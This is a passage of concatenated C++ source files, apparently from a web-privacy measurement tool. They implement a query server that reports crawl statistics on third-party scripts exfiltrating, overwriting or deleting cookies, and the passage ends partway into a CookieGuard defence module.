    readers.push_back(std::move(*reader));
  }
  auto server = from_readers(std::move(readers), config, error);
  if (server != nullptr) {
    for (std::size_t i = 0; i < paths.size(); ++i) {
      server->archives_[i].path = paths[i];
    }
  }
  return server;
}

std::unique_ptr<Server> Server::from_readers(
    std::vector<store::Reader> readers, const ServerConfig& config,
    store::Error* error) {
  std::vector<Archive> archives;
  archives.reserve(readers.size());
  for (auto& reader : readers) {
    archives.push_back(Archive{"<buffer>", std::move(reader)});
  }

  std::unique_ptr<Server> server(new Server(std::move(archives), config));

  // Precompute the aggregates: one full fold per archive at load time, so
  // no query ever walks an archive. merge() order = load order.
  const entities::EntityMap& entities = entities::EntityMap::builtin();
  const bool chain_mode = std::any_of(
      server->archives_.begin(), server->archives_.end(),
      [](const Archive& a) {
        return a.reader.kind() == store::ArchiveKind::kDelta;
      });
  if (chain_mode) {
    // Base+delta chain: validate the linkage, then fold each wave from its
    // materialized logs. The regular aggregate serves the newest wave.
    std::vector<const store::Reader*> readers_in_order;
    readers_in_order.reserve(server->archives_.size());
    for (const Archive& archive : server->archives_) {
      readers_in_order.push_back(&archive.reader);
    }
    server->chain_ = store::WaveChain::link(std::move(readers_in_order),
                                            error);
    if (!server->chain_) return nullptr;
    for (int w = 0; w < server->chain_->waves(); ++w) {
      WaveInfo info;
      info.wave = server->chain_->archive(w).wave();
      const bool ok = server->chain_->for_each(
          w,
          [&](instrument::VisitLog&& log) {
            info.summary.merge(analysis::fold_visit(entities, {}, log));
          },
          error);
      if (!ok) return nullptr;  // an unresolvable chain must not serve
      server->waves_.push_back(std::move(info));
    }
    server->aggregate_ = server->waves_.back().summary;
    server->waves_answer_ = server->build_waves();
  } else {
    for (const Archive& archive : server->archives_) {
      analysis::SiteSummary summary;
      const bool ok = archive.reader.for_each(
          [&](instrument::VisitLog&& log) {
            summary.merge(analysis::fold_visit(entities, {}, log));
          },
          error);
      if (!ok) return nullptr;  // a corrupt corpus must not serve
      server->aggregate_.merge(std::move(summary));
    }
  }

  // Per-entity index over the merged pair map.
  for (const auto& [pair, stats] : server->aggregate_.pairs) {
    for (const auto& [entity, n] : stats.exfiltrator_entities) {
      auto& agg = server->entity_index_[entity];
      ++agg.exfiltrated_pairs;
      agg.exfil_site_events += n;
    }
    for (const auto& [entity, n] : stats.destination_entities) {
      ++server->entity_index_[entity].destination_pairs;
    }
    for (const auto& [entity, n] : stats.overwriter_entities) {
      auto& agg = server->entity_index_[entity];
      ++agg.overwritten_pairs;
      agg.overwrite_site_events += n;
    }
    for (const auto& [entity, n] : stats.deleter_entities) {
      auto& agg = server->entity_index_[entity];
      ++agg.deleted_pairs;
      agg.delete_site_events += n;
    }
  }

  // Render the aggregate answers once. table1/totals scan the full pair map
  // (four passes each); at 20k sites that is ~12 ms per query if done at
  // query time. The rankers are full deterministic sorts, so top-N queries
  // are prefix slices of the complete rankings precomputed here.
  server->table1_answer_ = server->build_table1();
  server->totals_answer_ = server->build_totals();
  server->ranked_exfiltrated_ =
      server->aggregate_.top_exfiltrated(server->aggregate_.pairs.size());
  server->ranked_domains_ = server->aggregate_.top_exfiltrator_domains(
      server->aggregate_.domains.size());
  return server;
}

int Server::site_count() const {
  if (chain_) return chain_->site_count(chain_->waves() - 1);
  int n = 0;
  for (const Archive& archive : archives_) n += archive.reader.site_count();
  return n;
}

std::shared_ptr<const instrument::VisitLog> Server::load_site(
    int rank, int* archive_index, store::Error* error) const {
  if (chain_) {
    // Chain mode: kSite answers the newest wave, materialized through the
    // chain. Cached under the newest wave's archive index, keyed by the
    // materialized payload size for admission.
    const int top = chain_->waves() - 1;
    *archive_index = top;
    const auto key = static_cast<std::uint32_t>(top);
    if (auto cached = cache_.get(key, rank)) return cached;
    const auto payload = chain_->payload_at(rank, top, error);
    if (!payload) return nullptr;
    auto log = store::decode_site_payload(*payload, error);
    if (!log) return nullptr;
    auto shared =
        std::make_shared<const instrument::VisitLog>(std::move(*log));
    cache_.put(key, rank, payload->size(), shared);
    return shared;
  }
  for (std::size_t i = 0; i < archives_.size(); ++i) {
    const Archive& archive = archives_[i];
    const store::IndexEntry* entry =
        find_entry(archive.reader.index(), rank);
    if (entry == nullptr) continue;
    *archive_index = static_cast<int>(i);
    if (auto cached = cache_.get(static_cast<std::uint32_t>(i), rank)) {
      return cached;
    }
    auto log = archive.reader.visit(rank, error);
    if (!log) return nullptr;  // corrupt block — error already filled
    auto shared =
        std::make_shared<const instrument::VisitLog>(std::move(*log));
    cache_.put(static_cast<std::uint32_t>(i), rank, entry->length, shared);
    return shared;
  }
  if (error != nullptr) {
    *error = {fault::ArchiveFault::kNone,
              "rank " + std::to_string(rank) + " is in no loaded archive"};
  }
  return nullptr;
}

report::Json Server::handle_site(const Query& query) const {
  int archive_index = -1;
  store::Error error;
  const auto log = load_site(query.rank, &archive_index, &error);
  if (log == nullptr) {
    return error_json(query, error.code == fault::ArchiveFault::kNone
                                 ? error.detail
                                 : error.to_string());
  }
  const analysis::SiteSummary folded =
      analysis::fold_visit(entities::EntityMap::builtin(), {}, *log);
  const analysis::Totals& t = folded.totals;

  report::Json out = report::Json::object();
  out["kind"] = "site";
  out["rank"] = query.rank;
  out["archive"] = archive_index;
  out["site"] = log->site;
  out["host"] = log->site_host;
  out["complete"] = log->complete();
  out["attempts"] = log->attempts;
  out["failure"] = std::string(fault::failure_class_name(log->failure));

  report::Json records = report::Json::object();
  records["script_sets"] = static_cast<std::int64_t>(log->script_sets.size());
  records["http_sets"] = static_cast<std::int64_t>(log->http_sets.size());
  records["reads"] = static_cast<std::int64_t>(log->reads.size());
  records["requests"] = static_cast<std::int64_t>(log->requests.size());
  records["dom_mods"] = static_cast<std::int64_t>(log->dom_mods.size());
  records["includes"] = static_cast<std::int64_t>(log->includes.size());
  out["records"] = std::move(records);

  report::Json a = report::Json::object();
  a["third_party_scripts"] = t.third_party_script_count;
  a["tp_cookies_set"] = t.tp_cookies_set;
  a["fp_cookies_set"] = t.fp_cookies_set;
  a["pairs_set"] = static_cast<std::int64_t>(folded.pairs.size());
  a["cross_overwrites"] = t.cross_overwrites;
  a["exfiltrated"] = t.sites_doc_exfil + t.sites_store_exfil > 0;
  a["overwritten"] = t.sites_doc_overwrite + t.sites_store_overwrite > 0;
  a["deleted"] = t.sites_doc_delete + t.sites_store_delete > 0;
  out["analysis"] = std::move(a);
  return out;
}

report::Json Server::build_table1() const {
  const analysis::Totals& t = aggregate_.totals;
  report::Json out = report::Json::object();
  out["kind"] = "table1";
  out["sites_complete"] = t.sites_complete;
  out["document_cookie"] =
      api_breakdown(aggregate_, CookieSource::kDocumentCookie,
                    t.sites_doc_exfil, t.sites_doc_overwrite,
                    t.sites_doc_delete, t.sites_complete);
  out["cookie_store"] =
      api_breakdown(aggregate_, CookieSource::kCookieStore,
                    t.sites_store_exfil, t.sites_store_overwrite,
                    t.sites_store_delete, t.sites_complete);
  return out;
}

report::Json Server::build_totals() const {
  const analysis::Totals& t = aggregate_.totals;
  report::Json out = report::Json::object();
  out["kind"] = "totals";
  out["sites_crawled"] = t.sites_crawled;
  out["sites_complete"] = t.sites_complete;
  out["sites_with_third_party"] = t.sites_with_third_party;
  out["third_party_scripts"] = t.third_party_script_count;
  out["third_party_ad_tracking"] = t.third_party_ad_tracking_count;
  out["tp_cookies_set"] = t.tp_cookies_set;
  out["fp_cookies_set"] = t.fp_cookies_set;
  out["direct_inclusions"] = t.direct_inclusions;
  out["indirect_inclusions"] = t.indirect_inclusions;
  out["sites_using_document_cookie"] = t.sites_using_document_cookie;
  out["sites_using_cookie_store"] = t.sites_using_cookie_store;
  out["unique_pairs"] = static_cast<std::int64_t>(aggregate_.pairs.size());
  out["unique_setter_scripts"] = t.unique_setter_scripts;
  out["script_set_events"] = t.script_set_events;
  out["cross_overwrites"] = t.cross_overwrites;
  return out;
}

report::Json Server::build_waves() const {
  report::Json rows = report::Json::array();
  for (const WaveInfo& info : waves_) {
    const analysis::Totals& t = info.summary.totals;
    report::Json row = report::Json::object();
    row["wave"] = static_cast<std::int64_t>(info.wave);
    row["sites_crawled"] = t.sites_crawled;
    row["sites_complete"] = t.sites_complete;
    row["sites_with_third_party"] = t.sites_with_third_party;
    row["third_party_scripts"] = t.third_party_script_count;
    row["tp_cookies_set"] = t.tp_cookies_set;
    row["fp_cookies_set"] = t.fp_cookies_set;
    row["unique_pairs"] = static_cast<std::int64_t>(info.summary.pairs.size());
    row["exfiltrated_pairs"] = static_cast<std::int64_t>(
        info.summary.exfiltrated_pair_count(CookieSource::kDocumentCookie) +
        info.summary.exfiltrated_pair_count(CookieSource::kCookieStore));
    row["cross_overwrites"] = t.cross_overwrites;
    row["sites_doc_exfil"] = t.sites_doc_exfil;
    row["sites_store_exfil"] = t.sites_store_exfil;
    rows.push_back(std::move(row));
  }
  report::Json out = report::Json::object();
  out["kind"] = "waves";
  out["waves"] = static_cast<std::int64_t>(waves_.size());
  out["rows"] = std::move(rows);
  return out;
}

report::Json Server::handle_waves(const Query& query) const {
  if (waves_.empty()) {
    return error_json(query,
                      "no wave chain loaded — waves needs a base+delta "
                      "archive chain");
  }
  if (query.domain.empty()) return waves_answer_;
  // Per-domain trend: one map lookup per wave against the precomputed
  // per-wave summaries.
  report::Json rows = report::Json::array();
  for (const WaveInfo& info : waves_) {
    report::Json row = report::Json::object();
    row["wave"] = static_cast<std::int64_t>(info.wave);
    const auto it = info.summary.domains.find(query.domain);
    const bool known = it != info.summary.domains.end();
    row["known"] = known;
    row["exfiltrated_pairs"] = static_cast<std::int64_t>(
        known ? it->second.exfiltrated_pairs.size() : 0);
    row["overwritten_pairs"] = static_cast<std::int64_t>(
        known ? it->second.overwritten_pairs.size() : 0);
    row["deleted_pairs"] = static_cast<std::int64_t>(
        known ? it->second.deleted_pairs.size() : 0);
    rows.push_back(std::move(row));
  }
  report::Json out = report::Json::object();
  out["kind"] = "waves";
  out["domain"] = query.domain;
  out["waves"] = static_cast<std::int64_t>(waves_.size());
  out["rows"] = std::move(rows);
  return out;
}

report::Json Server::handle_top_exfiltrated(int n) const {
  report::Json rows = report::Json::array();
  const std::size_t take =
      std::min(static_cast<std::size_t>(n > 0 ? n : 0),
               ranked_exfiltrated_.size());
  for (std::size_t i = 0; i < take; ++i) {
    const auto& ranked = ranked_exfiltrated_[i];
    report::Json row = report::Json::object();
    row["name"] = ranked.pair.name;
    row["owner"] = ranked.pair.owner_domain;
    row["destination_entities"] =
        static_cast<std::int64_t>(ranked.stats->destination_entities.size());
    row["sites_set"] = ranked.stats->sites_set;
    rows.push_back(std::move(row));
  }
  report::Json out = report::Json::object();
  out["kind"] = "top-exfiltrated";
  out["n"] = n;
  out["rows"] = std::move(rows);
  return out;
}

report::Json Server::handle_top_domains(int n) const {
  report::Json rows = report::Json::array();
  const std::size_t take = std::min(static_cast<std::size_t>(n > 0 ? n : 0),
                                    ranked_domains_.size());
  for (std::size_t i = 0; i < take; ++i) {
    const auto& [domain, count] = ranked_domains_[i];
    report::Json row = report::Json::object();
    row["domain"] = domain;
    row["exfiltrated_cookies"] = count;
    rows.push_back(std::move(row));
  }
  report::Json out = report::Json::object();
  out["kind"] = "top-domains";
  out["n"] = n;
  out["rows"] = std::move(rows);
  return out;
}

report::Json Server::handle_entity(const std::string& entity) const {
  report::Json out = report::Json::object();
  out["kind"] = "entity";
  out["entity"] = entity;
  const auto it = entity_index_.find(entity);
  out["known"] = it != entity_index_.end();
  const EntityAggregate agg =
      it != entity_index_.end() ? it->second : EntityAggregate{};
  out["exfiltrated_pairs"] = agg.exfiltrated_pairs;
  out["destination_pairs"] = agg.destination_pairs;
  out["overwritten_pairs"] = agg.overwritten_pairs;
  out["deleted_pairs"] = agg.deleted_pairs;
  out["exfil_site_events"] = agg.exfil_site_events;
  out["overwrite_site_events"] = agg.overwrite_site_events;
  out["delete_site_events"] = agg.delete_site_events;
  return out;
}

report::Json Server::handle(const Query& query) const {
  const int kind_index = static_cast<int>(query.kind);
  if (kind_index >= 0 && kind_index < kQueryKindCount) {
    queries_by_kind_[static_cast<std::size_t>(kind_index)].fetch_add(
        1, std::memory_order_relaxed);
  }
  switch (query.kind) {
    case QueryKind::kSite: {
      report::Json out = handle_site(query);
      if (out.find("error") != nullptr) {
        query_errors_.fetch_add(1, std::memory_order_relaxed);
      }
      return out;
    }
    case QueryKind::kTable1:
      return table1_answer_;
    case QueryKind::kTotals:
      return totals_answer_;
    case QueryKind::kTopExfiltrated:
      return handle_top_exfiltrated(query.top_n);
    case QueryKind::kTopDomains:
      return handle_top_domains(query.top_n);
    case QueryKind::kEntity:
      return handle_entity(query.entity);
    case QueryKind::kStats:
      return stats_json();
    case QueryKind::kWaves: {
      report::Json out = handle_waves(query);
      if (out.find("error") != nullptr) {
        query_errors_.fetch_add(1, std::memory_order_relaxed);
      }
      return out;
    }
  }
  query_errors_.fetch_add(1, std::memory_order_relaxed);
  return error_json(query, "unknown query kind");
}

std::string Server::handle_text(const Query& query) const {
  return handle(query).dump();
}

report::Json Server::stats_json() const {
  report::Json out = report::Json::object();
  out["kind"] = "stats";

  report::Json archives = report::Json::array();
  for (const Archive& archive : archives_) {
    report::Json a = report::Json::object();
    a["path"] = archive.path;
    a["sites"] = archive.reader.site_count();
    a["bytes"] = static_cast<std::int64_t>(archive.reader.file_size());
    a["corpus_seed"] =
        static_cast<std::int64_t>(archive.reader.corpus_seed());
    a["kind"] = std::string(store::archive_kind_name(archive.reader.kind()));
    a["policy"] =
        std::string(store::archive_policy_name(archive.reader.policy()));
    a["wave"] = static_cast<std::int64_t>(archive.reader.wave());
    if (archive.reader.kind() == store::ArchiveKind::kDelta) {
      a["inherited"] =
          static_cast<std::int64_t>(archive.reader.inherited_ranks().size());
    }
    archives.push_back(std::move(a));
  }
  out["archives"] = std::move(archives);
  out["sites"] = site_count();
  if (chain_) out["waves"] = static_cast<std::int64_t>(waves_.size());

  report::Json queries = report::Json::object();
  for (int k = 0; k < kQueryKindCount; ++k) {
    queries[std::string(query_kind_name(static_cast<QueryKind>(k)))] =
        queries_by_kind_[static_cast<std::size_t>(k)].load(
            std::memory_order_relaxed);
  }
  queries["errors"] = query_errors_.load(std::memory_order_relaxed);
  out["queries"] = std::move(queries);

  const BlockCache::Stats cache = cache_.stats();
  report::Json c = report::Json::object();
  c["hits"] = cache.hits;
  c["misses"] = cache.misses;
  c["insertions"] = cache.insertions;
  c["evictions"] = cache.evictions;
  c["rejected_admission"] = cache.rejected_admission;
  c["entries"] = cache.entries;
  out["cache"] = std::move(c);
  return out;
}

void Server::export_metrics(obs::MetricsRegistry& registry) const {
  for (int k = 0; k < kQueryKindCount; ++k) {
    // The prefix literal stays inline in the call so cglint M1 can match it
    // against the serve.queries.* wildcard in lint/metrics.txt.
    registry.add("serve.queries." +
                     std::string(query_kind_name(static_cast<QueryKind>(k))),
                 queries_by_kind_[static_cast<std::size_t>(k)].load(
                     std::memory_order_relaxed));
  }
  registry.add("serve.queries.errors",
               query_errors_.load(std::memory_order_relaxed));
  cache_.export_metrics(registry);
}

}  // namespace cg::serve
