#include "serve/workload.h"

#include <algorithm>
#include <cmath>

namespace cg::serve {

ZipfSampler::ZipfSampler(int n, double s) : s_(s) {
  if (n < 1) n = 1;
  cdf_.resize(static_cast<std::size_t>(n));
  double total = 0;
  for (int k = 0; k < n; ++k) {
    total += 1.0 / std::pow(static_cast<double>(k + 1), s_);
    cdf_[static_cast<std::size_t>(k)] = total;
  }
  for (double& v : cdf_) v /= total;
  cdf_.back() = 1.0;  // guard against accumulated rounding
}

double ZipfSampler::probability(int rank) const {
  if (rank < 0 || rank >= n()) return 0;
  const std::size_t i = static_cast<std::size_t>(rank);
  return i == 0 ? cdf_[0] : cdf_[i] - cdf_[i - 1];
}

int ZipfSampler::sample(script::Rng& rng) const {
  const double u = rng.uniform();
  const auto it = std::lower_bound(cdf_.begin(), cdf_.end(), u);
  const std::size_t i =
      it == cdf_.end() ? cdf_.size() - 1
                       : static_cast<std::size_t>(it - cdf_.begin());
  return static_cast<int>(i);
}

WorkloadGenerator::WorkloadGenerator(WorkloadSpec spec)
    : spec_(std::move(spec)),
      sampler_(spec_.site_count, spec_.zipf_exponent),
      rng_(spec_.seed) {
  total_weight_ = spec_.weight_site + spec_.weight_table1 +
                  spec_.weight_totals + spec_.weight_top_exfiltrated +
                  spec_.weight_top_domains +
                  (spec_.entities.empty() ? 0 : spec_.weight_entity);
  if (total_weight_ <= 0) total_weight_ = 1;
}

Query WorkloadGenerator::next() {
  // One draw for the type, then type-specific draws — a fixed consumption
  // pattern per query keeps the stream stable when weights change upstream.
  const int pick =
      static_cast<int>(rng_.below(static_cast<std::uint64_t>(total_weight_)));
  Query query;
  int edge = spec_.weight_site;
  if (pick < edge) {
    query.kind = QueryKind::kSite;
    // Site ranks are 1-based (corpus rank = index + 1); rank 1 is the most
    // popular site, matching the zipfian head.
    query.rank = sampler_.sample(rng_) + 1;
    return query;
  }
  edge += spec_.weight_table1;
  if (pick < edge) {
    query.kind = QueryKind::kTable1;
    return query;
  }
  edge += spec_.weight_totals;
  if (pick < edge) {
    query.kind = QueryKind::kTotals;
    return query;
  }
  edge += spec_.weight_top_exfiltrated;
  if (pick < edge) {
    query.kind = QueryKind::kTopExfiltrated;
    query.top_n = 10;
    return query;
  }
  edge += spec_.weight_top_domains;
  if (pick < edge) {
    query.kind = QueryKind::kTopDomains;
    query.top_n = 10;
    return query;
  }
  query.kind = QueryKind::kEntity;
  query.entity = spec_.entities[static_cast<std::size_t>(
      rng_.below(spec_.entities.size()))];
  return query;
}

std::vector<Query> WorkloadGenerator::generate(std::size_t n) {
  // Restart from the seed so generate() is a pure function of the spec.
  rng_ = script::Rng(spec_.seed);
  std::vector<Query> out;
  out.reserve(n);
  for (std::size_t i = 0; i < n; ++i) out.push_back(next());
  return out;
}

}  // namespace cg::serve
