// The serving tier's query taxonomy.
//
// Two cost classes, one enum: per-site lookups (kSite) touch exactly one
// archive block through the hot cache, and aggregate queries (everything
// else) are answered from summaries precomputed at load time — no query
// ever walks the archive. parse_query/to_text round-trip the line protocol
// the cgserve REPL speaks.
#pragma once

#include <optional>
#include <string>
#include <string_view>

namespace cg::serve {

enum class QueryKind {
  kSite,            // one site by rank: decode + per-site fold
  kTable1,          // cross-domain action prevalence (paper Table 1)
  kTotals,          // crawl/prevalence counters (paper §5.1–5.2)
  kTopExfiltrated,  // top-n exfiltrated pairs (paper Table 2)
  kTopDomains,      // top-n exfiltrator domains (paper Figure 2)
  kEntity,          // one entity's cross-site footprint
  kStats,           // server introspection: cache + query counters
  kWaves,           // per-wave trend over a loaded base+delta chain
};

/// Number of QueryKind values (for per-kind counter arrays).
inline constexpr int kQueryKindCount = 8;

std::string_view query_kind_name(QueryKind kind);

struct Query {
  QueryKind kind = QueryKind::kTotals;
  int rank = 0;        // kSite
  int top_n = 10;      // kTopExfiltrated / kTopDomains
  std::string entity;  // kEntity
  std::string domain;  // kWaves: optional per-domain trend filter
};

/// Parses one line of the cgserve protocol:
///   site <rank> | table1 | totals | top-exfiltrated [n] |
///   top-domains [n] | entity <name> | stats | waves [domain]
/// Empty optional on anything else (including trailing garbage).
std::optional<Query> parse_query(std::string_view line);

/// The line that parses back to `query` — the REPL's echo format.
std::string to_text(const Query& query);

}  // namespace cg::serve
