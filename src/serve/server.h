// cgserve's engine: a long-running, concurrent CGAR query server.
//
// PR 4 made the archive the product; this makes it a serving tier. open()
// pays the expensive work once per archive — validate the envelope, fold
// every site block into a SiteSummary (analysis/fold.h), build the
// per-entity index, and render the aggregate answers — and every query
// afterwards is cheap:
//
//   per-site (kSite):  footer-index random access -> hot block cache ->
//                      one-block decode + single-visit fold. Never a scan.
//   aggregates:        table1/totals return answers rendered at load;
//                      top-N queries slice full precomputed rankings.
//                      Never a walk, never a re-fold, never a pair-map scan.
//
// handle() is const and thread-safe: archives, summaries, and the entity
// index are immutable after open(); the block cache locks per shard; query
// counters are atomics. Answers are rendered to report::Json with sorted
// keys, so the response to a given query is byte-identical regardless of
// thread count, interleaving, or cache state — the property bench_serve
// and serve_test assert. (The entity map is the builtin static table, so
// folds need no corpus reconstruction; the footer's corpus_seed is kept
// only as provenance in stats.)
//
// Multiple archives: lookups try archives in load order (first archive
// containing the rank wins); aggregate summaries merge in load order —
// archives packed from disjoint rank ranges of one corpus merge exactly
// (the SiteSummary contract).
//
// Wave chains: when any loaded archive is a delta archive, the load order
// is treated as a base+delta chain (store::WaveChain validates the
// provenance linkage). Each wave is materialized and folded at load time
// into its own per-wave summary; the `waves` query serves the resulting
// trend table (optionally filtered to one domain's stats), the regular
// aggregate queries answer over the *newest* wave (the current web, not a
// double-counted union), and kSite lookups materialize through the chain.
#pragma once

#include <array>
#include <atomic>
#include <cstdint>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "analysis/fold.h"
#include "report/json.h"
#include "serve/cache.h"
#include "serve/query.h"
#include "store/chain.h"
#include "store/reader.h"

namespace cg::serve {

struct ServerConfig {
  CacheConfig cache;
};

/// One entity's cross-site footprint, precomputed from the aggregate
/// summary's pair maps at load time.
struct EntityAggregate {
  int exfiltrated_pairs = 0;  // unique pairs this entity exfiltrated
  int destination_pairs = 0;  // unique pairs exfiltrated *to* this entity
  int overwritten_pairs = 0;
  int deleted_pairs = 0;
  long long exfil_site_events = 0;  // per-site event counts, summed
  long long overwrite_site_events = 0;
  long long delete_site_events = 0;
};

class Server {
 public:
  /// Opens and indexes the archives at `paths`. Null (with `error` naming
  /// the taxonomy class) if any archive fails validation or its site
  /// blocks do not decode — a serving tier must not come up over a corrupt
  /// corpus.
  static std::unique_ptr<Server> open(const std::vector<std::string>& paths,
                                      const ServerConfig& config,
                                      store::Error* error = nullptr);

  /// Same, over already-validated readers (tests, benches packing
  /// in-memory archives).
  static std::unique_ptr<Server> from_readers(
      std::vector<store::Reader> readers, const ServerConfig& config,
      store::Error* error = nullptr);

  int archive_count() const { return static_cast<int>(archives_.size()); }
  int site_count() const;

  /// True when the loaded archives form a base+delta wave chain.
  bool chain_mode() const { return chain_.has_value(); }
  /// Number of waves in chain mode (0 otherwise).
  int wave_count() const { return static_cast<int>(waves_.size()); }

  /// The merged precomputed aggregate over every loaded archive (chain
  /// mode: the newest wave's aggregate).
  const analysis::SiteSummary& aggregate() const { return aggregate_; }

  /// Answers one query. Always returns a JSON object; failures (unknown
  /// rank, corrupt block) come back as {"error": ..., "kind": ...} so the
  /// line protocol never goes silent. Thread-safe.
  report::Json handle(const Query& query) const;

  /// handle() rendered as a compact single-line JSON string — the byte
  /// string the determinism checks compare.
  std::string handle_text(const Query& query) const;

  /// Server introspection: archives, per-kind query counters, cache stats.
  report::Json stats_json() const;

  /// Exports serve.* counters (queries by kind, cache) into `registry`.
  void export_metrics(obs::MetricsRegistry& registry) const;

  const BlockCache& cache() const { return cache_; }

 private:
  struct Archive {
    std::string path;
    store::Reader reader;
  };

  Server(std::vector<Archive> archives, const ServerConfig& config);

  report::Json handle_site(const Query& query) const;
  report::Json handle_top_exfiltrated(int n) const;
  report::Json handle_top_domains(int n) const;
  report::Json handle_entity(const std::string& entity) const;
  report::Json handle_waves(const Query& query) const;

  // Load-time renderers for the precomputed answers below.
  report::Json build_table1() const;
  report::Json build_totals() const;
  report::Json build_waves() const;

  /// Decodes (archive_index, rank) through the cache. Null + error when the
  /// rank is in no archive or its block is corrupt.
  std::shared_ptr<const instrument::VisitLog> load_site(
      int rank, int* archive_index, store::Error* error) const;

  std::vector<Archive> archives_;
  /// Chain mode: the validated base+delta chain over archives_ (borrows
  /// their readers; archives_ never reallocates after construction) and
  /// one folded summary per wave, oldest first.
  std::optional<store::WaveChain> chain_;
  struct WaveInfo {
    std::uint32_t wave = 0;
    analysis::SiteSummary summary;
  };
  std::vector<WaveInfo> waves_;
  report::Json waves_answer_;
  analysis::SiteSummary aggregate_;
  std::map<std::string, EntityAggregate> entity_index_;
  // Aggregate answers rendered once at load: table1/totals are returned as
  // copies, top-N queries slice the full precomputed rankings. At 20k sites
  // a per-query pair-map scan costs ~12 ms; a copy costs microseconds.
  report::Json table1_answer_;
  report::Json totals_answer_;
  std::vector<analysis::SiteSummary::RankedPair> ranked_exfiltrated_;
  std::vector<std::pair<std::string, int>> ranked_domains_;
  mutable BlockCache cache_;
  mutable std::array<std::atomic<std::int64_t>, kQueryKindCount>
      queries_by_kind_{};
  mutable std::atomic<std::int64_t> query_errors_{0};
};

}  // namespace cg::serve
