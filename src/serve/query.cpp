#include "serve/query.h"

#include <cctype>
#include <vector>

namespace cg::serve {
namespace {

/// Splits on runs of spaces/tabs; no escaping (entity names in the corpus
/// contain none).
std::vector<std::string_view> tokenize(std::string_view line) {
  std::vector<std::string_view> out;
  std::size_t i = 0;
  while (i < line.size()) {
    while (i < line.size() && (line[i] == ' ' || line[i] == '\t')) ++i;
    std::size_t start = i;
    while (i < line.size() && line[i] != ' ' && line[i] != '\t') ++i;
    if (i > start) out.push_back(line.substr(start, i - start));
  }
  return out;
}

std::optional<int> parse_int(std::string_view text) {
  if (text.empty() || text.size() > 9) return std::nullopt;
  int value = 0;
  for (const char c : text) {
    if (!std::isdigit(static_cast<unsigned char>(c))) return std::nullopt;
    value = value * 10 + (c - '0');
  }
  return value;
}

}  // namespace

std::string_view query_kind_name(QueryKind kind) {
  switch (kind) {
    case QueryKind::kSite:
      return "site";
    case QueryKind::kTable1:
      return "table1";
    case QueryKind::kTotals:
      return "totals";
    case QueryKind::kTopExfiltrated:
      return "top-exfiltrated";
    case QueryKind::kTopDomains:
      return "top-domains";
    case QueryKind::kEntity:
      return "entity";
    case QueryKind::kStats:
      return "stats";
    case QueryKind::kWaves:
      return "waves";
  }
  return "unknown";
}

std::optional<Query> parse_query(std::string_view line) {
  const auto tokens = tokenize(line);
  if (tokens.empty()) return std::nullopt;
  Query query;
  const std::string_view verb = tokens[0];

  if (verb == "site") {
    if (tokens.size() != 2) return std::nullopt;
    const auto rank = parse_int(tokens[1]);
    if (!rank) return std::nullopt;
    query.kind = QueryKind::kSite;
    query.rank = *rank;
    return query;
  }
  if (verb == "table1" || verb == "totals" || verb == "stats") {
    if (tokens.size() != 1) return std::nullopt;
    query.kind = verb == "table1"   ? QueryKind::kTable1
                 : verb == "totals" ? QueryKind::kTotals
                                    : QueryKind::kStats;
    return query;
  }
  if (verb == "top-exfiltrated" || verb == "top-domains") {
    if (tokens.size() > 2) return std::nullopt;
    if (tokens.size() == 2) {
      const auto n = parse_int(tokens[1]);
      if (!n || *n <= 0) return std::nullopt;
      query.top_n = *n;
    }
    query.kind = verb == "top-exfiltrated" ? QueryKind::kTopExfiltrated
                                           : QueryKind::kTopDomains;
    return query;
  }
  if (verb == "entity") {
    if (tokens.size() != 2) return std::nullopt;
    query.kind = QueryKind::kEntity;
    query.entity = std::string(tokens[1]);
    return query;
  }
  if (verb == "waves") {
    if (tokens.size() > 2) return std::nullopt;
    query.kind = QueryKind::kWaves;
    if (tokens.size() == 2) query.domain = std::string(tokens[1]);
    return query;
  }
  return std::nullopt;
}

std::string to_text(const Query& query) {
  std::string out(query_kind_name(query.kind));
  switch (query.kind) {
    case QueryKind::kSite:
      out += ' ';
      out += std::to_string(query.rank);
      break;
    case QueryKind::kTopExfiltrated:
    case QueryKind::kTopDomains:
      out += ' ';
      out += std::to_string(query.top_n);
      break;
    case QueryKind::kEntity:
      out += ' ';
      out += query.entity;
      break;
    case QueryKind::kWaves:
      if (!query.domain.empty()) {
        out += ' ';
        out += query.domain;
      }
      break;
    case QueryKind::kTable1:  // no-argument queries: the verb is the text
    case QueryKind::kTotals:
    case QueryKind::kStats:
      break;
  }
  return out;
}

}  // namespace cg::serve
