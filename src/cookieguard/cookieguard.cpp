#include "cookieguard/cookieguard.h"

#include "browser/page.h"
#include "net/psl.h"
#include "obs/trace.h"
#include "script/interpreter.h"

namespace cg::cookieguard {
namespace {

using Type = cookies::CookieChange::Type;

/// One enforcement decision: a cookieguard.* counter plus (at full trace
/// detail) an instant on the site's track at the page's virtual time.
void note_decision(browser::Page& page, std::string_view name) {
  obs::metric_add(name);
  obs::instant(obs::Detail::kFull, "cookieguard", name,
               page.browser().clock().now());
}

// Extracts the cookie name from a document.cookie assignment line.
std::string cookie_name_of(std::string_view cookie_line) {
  const auto semi = cookie_line.find(';');
  std::string_view pair = (semi == std::string_view::npos)
                              ? cookie_line
                              : cookie_line.substr(0, semi);
  const auto eq = pair.find('=');
  std::string_view name =
      (eq == std::string_view::npos) ? pair : pair.substr(0, eq);
  while (!name.empty() && name.front() == ' ') name.remove_prefix(1);
  while (!name.empty() && name.back() == ' ') name.remove_suffix(1);
  return std::string(name);
}

}  // namespace

CookieGuard::CookieGuard(CookieGuardConfig config,
                         const entities::EntityMap* entities)
    : config_(config), entities_(entities) {
  // Mirror the paper's component split: the "content script" relays set and
  // lookup messages to the "background" store over the bus.
  bus_.register_handler("record", [this](const std::string& payload) {
    const auto sep = payload.find('\x1f');
    if (sep != std::string::npos) {
      store_.record(payload.substr(0, sep), payload.substr(sep + 1));
    }
    return std::string{};
  });
  bus_.register_handler("erase", [this](const std::string& payload) {
    store_.erase(payload);
    return std::string{};
  });
  bus_.register_handler("lookup", [this](const std::string& payload) {
    return store_.creator(payload).value_or("");
  });
}

void CookieGuard::on_visit_start(browser::Browser& browser) {
  (void)browser;
  // The metadata store is per-visit (a fresh profile per site, like the
  // paper's crawl); enforcement stats accumulate across the whole crawl.
  store_.clear();
  obs::metric_add("cookieguard.partition_resets");
}

std::string CookieGuard::resolve_actor(const webplat::StackTrace& stack,
                                        browser::Page& page) const {
  const auto who = ext::attribute_stack(stack, config_.attribution);
  if (!who.unknown) {
    if (config_.resolve_cname_cloaking) {
      // Uncloak: a first-party-looking script host may CNAME to a tracker.
